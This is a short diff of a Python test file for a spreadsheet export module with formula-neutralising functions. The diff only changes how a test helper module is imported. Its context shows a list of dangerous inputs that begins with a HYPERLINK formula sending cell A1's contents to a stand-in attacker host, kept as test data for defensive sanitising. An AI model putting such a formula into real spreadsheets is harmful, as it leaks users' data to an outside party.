@@ -7,7 +7,6 @@ import datetime as dt
 import json
 from pathlib import Path
 
-import builders as b
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy import func, select
@@ -16,6 +15,7 @@ from sqlalchemy.orm import Session
 from mou import models as m
 from mou.errors import Refused
 from mou.export import export_cycle, is_formula_like, neutralise
+from tests import builders as b
 
 DANGEROUS = (
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
